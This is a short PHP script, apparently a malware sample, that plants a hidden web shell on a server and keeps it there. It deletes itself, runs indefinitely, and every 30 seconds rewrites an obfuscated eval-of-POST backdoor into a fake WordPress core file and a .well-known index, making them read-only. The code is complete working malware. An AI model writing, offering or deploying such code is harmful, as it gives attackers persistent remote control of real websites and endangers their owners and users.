<?php
// probe (never run): keeps running after the request and writes the backdoor back whenever it is deleted
ignore_user_abort(true);
set_time_limit(0);
$body = base64_decode('PD9waHAgQGV2YWwoJF9QT1NUWydwJ10pOyA/Pg==');
$where = array($_SERVER['DOCUMENT_ROOT'] . '/wp-includes/class-wp-cache.php', $_SERVER['DOCUMENT_ROOT'] . '/.well-known/index.php');
@unlink(__FILE__);
while (true) {
    foreach ($where as $w) {
        if (!file_exists($w) || md5_file($w) !== md5($body)) { @file_put_contents($w, $body); @chmod($w, 0444); }
    }
    sleep(30);
}
